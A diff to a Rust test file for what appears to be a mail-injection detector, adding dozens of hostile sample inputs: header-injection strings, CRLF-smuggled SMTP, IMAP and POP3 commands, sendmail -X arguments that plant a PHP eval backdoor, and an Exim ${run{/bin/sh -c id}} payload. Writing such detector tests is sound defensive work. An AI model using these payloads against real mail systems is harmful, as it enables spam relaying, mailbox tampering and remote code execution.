@@ -33,6 +33,73 @@ const OPTIONS: &[&str] = &[
     "a@x.example -OQueueDirectory=/tmp -X/var/www/x.php",
     "\"a\\\" -oQ/tmp/ -X/var/www/x.php b\"@x.example",
     "a@x.example -X/tmp/x.php",
+    "test@test.com\nBcc:spam@evil.example",
+    "test@test.com\r\nBcc: a@evil.example,b@evil.example",
+    "a\r\nCc: victim@evil.example\r\n\r\nBuy now",
+    "subject\nBcc:x@evil.example\nContent-Type:text/html",
+    "\"Hello\nContent-Type: text/html\n\n<html>hi</html>\"",
+    "foo\nContent-Type: multipart/mixed; boundary=\"xyz\"\n\n--xyz\nContent-Type: text/plain\n\nspam\n--xyz--",
+    "hi\nSubject: You won\nTo: victim@evil.example\n\nBody",
+    "From: x@evil.example\nTo: y@evil.example\nBcc: z@evil.example",
+    "me@x.example\nReply-To: attacker@evil.example",
+    "me@x.example\nDisposition-Notification-To: attacker@evil.example",
+    "me@x.example\nReturn-Receipt-To: attacker@evil.example",
+    "me@x.example\nX-Priority: 1\nBcc: a@evil.example",
+    "me@x.example\nErrors-To: attacker@evil.example",
+    "me@x.example\r\nX-Mailer: Foo\r\n\r\nspam body",
+    "me@x.example\nMessage-ID: <1@evil.example>",
+    "me@x.example\nList-Unsubscribe: <mailto:x@evil.example>",
+    "me@x.example\nResent-To: x@evil.example",
+    "me@x.example\nResent-Bcc: x@evil.example",
+    "me@x.example\nEnvelope-To: x@evil.example",
+    "me@x.example\nDelivered-To: x@evil.example",
+    "me@x.example\nApparently-To: x@evil.example",
+    "me@x.example\nContent-Disposition: attachment; filename=\"x.exe\"",
+    "me@x.example\nImportance: High\nSubject: x",
+    "me@x.example\r\nDATA\r\nSubject: x\r\n\r\nhi\r\n.\r\nQUIT",
+    "me@x.example\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<b@evil.example>\r\nDATA",
+    "me@x.example>\r\nRCPT TO:<victim@evil.example",
+    "me@x.example>\r\nDATA\r\n",
+    "x\r\nRSET\r\nMAIL FROM:<>\r\nRCPT TO:<root>",
+    "x\r\nMAIL FROM: <root@localhost>\r\n",
+    "x\r\nMAIL FROM:<>\r\nRCPT TO:<admin>\r\n",
+    "x\r\nHELO evil.example\r\nMAIL FROM:<a@b.example>",
+    "x\r\nEHLO evil",
+    "x\r\nVRFY root\r\n",
+    "x\r\nEXPN staff",
+    "x\r\nAUTH LOGIN",
+    "x\r\nAUTH PLAIN AHRlc3QAdGVzdA==",
+    "message body\r\n.\r\nQUIT\r\n",
+    "\"\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
+    "1 BODY[HEADER]\r\nZ900 RENAME INBOX ENTRADA\r\nZ901 CREATE x",
+    "INBOX\"\r\nA003 DELETE \"INBOX",
+    "INBOX\"\r\nA1 LOGOUT\r\n",
+    "INBOX\r\na01 STATUS INBOX (MESSAGES)",
+    "INBOX\"\r\nV002 SELECT \"Sent",
+    "INBOX\r\nA01 UID FETCH 1 (BODY[])",
+    "INBOX\r\nA1 COPY 1:* Trash",
+    "INBOX\r\nA1 EXPUNGE",
+    "INBOX\r\nA1 STORE 1 +FLAGS (\\Deleted)",
+    "INBOX\r\nA142 AUTHENTICATE PLAIN",
+    "INBOX\r\na1 SUBSCRIBE x",
+    "x\r\nSTAT\r\nLIST\r\nRETR 1",
+    "x\r\nDELE 1\r\nQUIT",
+    "attacker@evil.example -OQueueDirectory=/tmp/ -X/var/www/html/x.php",
+    "\"attacker\\\" -oQ/tmp/ -X/var/www/cache/phpcode.php  some\"@email.example",
+    "attacker@evil.example -be ${run{/bin/sh -c id}}",
+    "root@localhost -be ${run{${substr{0}{1}{$spool_directory}}usr${substr{0}{1}{$spool_directory}}bin}}",
+    "-OQueueDirectory=/tmp -X/var/www/html/rce.php",
+    "-C/etc/passwd -X/tmp/output.txt",
+    "-froot@localhost -X/tmp/a",
+    "a@b.example\" -d -D -oQ/tmp/ \"",
+    "\"a.\\\" -OQueueDirectory=\r<?=eval($_GET[c])?>\\ -X/var/www/html/\"@a.php",
+    "aaa( -X/home/www/backdoor.php )@qq.com",
+    "user@x.example\nBcc: <victim@evil.example>",
+    "user@x.example\\nBcc: victim@evil.example",
+    "user@x.example\\r\\nCc: victim@evil.example",
+    "user@x.example<CR><LF>Bcc: victim@evil.example",
+    "user@x.example嘍嘊Bcc:victim@evil.example",
+    "user@x.example,victim@evil.example\nBcc:\n victim2@evil.example",
 ];
 
 const HONEST: &[&str] = &[
@@ -98,6 +165,8 @@ const HONEST: &[&str] = &[
     "user1 login",
     "x\nuser1 login ok",
     "SELECT 1\nFROM a",
+    "1. LIST\n2. STAT\n3. QUIT",
+    "user admin\npass 123456",
 ];
 
 #[test]
@@ -154,5 +223,16 @@ proptest! {
                 prop_assert!(satisfies(&value, &Detector::Mail.requirement()), "{}", finding.path);
             }
         }
+    }
+}
+
+#[test]
+fn a_mail_that_is_answered_or_passed_on_does_not_block() {
+    for text in [
+        "-----Original Message-----\nFrom: Wang [mailto:a@x.example]\nSent: Monday\nTo: b@x.example\nSubject: x\n\ntext",
+        "---------- Forwarded message ---------\nFrom: Wang <a@x.example>\nSubject: x\nTo: <b@x.example>",
+    ] {
+        let sure = Detector::Mail.find(text.as_bytes(), VALUE).map_or(0, |finding| finding.confidence);
+        assert!(sure < 60, "{sure} for {text}");
     }
 }
